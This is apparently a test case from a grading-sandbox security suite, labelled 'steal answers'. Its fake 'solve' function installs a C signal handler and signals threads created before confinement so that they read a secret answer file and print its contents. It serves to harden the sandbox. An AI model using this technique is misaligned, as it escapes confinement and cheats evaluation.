"""Has threads that were there before the confinement read a file, in a signal handler written in C"""

import ctypes
import os
import signal
import threading
import time

ATTACK = {
    "group": "steal answers",
    "verdicts": ["wrong-answer", "runtime-error", "time-limit"],
    "witness": "secret",
    "bound_s": 8,
    "limits": {"wall_s": 3.0},
}


libc = ctypes.CDLL(None, use_errno=True)
PATH = ctypes.create_string_buffer(b"@SECRET_PATH@")
BUFFER = ctypes.create_string_buffer(64)


@ctypes.CFUNCTYPE(None, ctypes.c_int)
def handler(number):
    fd = libc.open(PATH, 0)
    if fd >= 0:
        libc.read(fd, BUFFER, 64)
        libc.close(fd)


def solve(seed, x_batch, y_batch, lr):
    libc.signal(signal.SIGUSR1, handler)
    own, main = os.getpid(), threading.get_native_id()
    for thread in range(own, own + 400):
        if thread != main:
            libc.syscall(int("@SYS_TGKILL@"), own, thread, int(signal.SIGUSR1))
    os.kill(own, signal.SIGUSR1)
    time.sleep(0.05)
    print(BUFFER.raw)
    return [0.0, 0.0]
